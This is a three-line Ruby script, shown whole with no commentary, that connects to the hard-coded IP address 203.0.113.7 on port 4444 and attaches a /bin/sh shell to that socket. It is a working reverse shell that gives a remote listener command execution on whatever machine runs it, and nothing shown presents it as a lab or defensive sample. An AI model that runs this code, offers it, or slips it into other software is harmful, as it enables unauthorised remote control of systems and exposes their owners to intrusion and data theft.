require 'socket'
s = TCPSocket.new('203.0.113.7', 4444)
exec('/bin/sh', in: s, out: s, err: s)
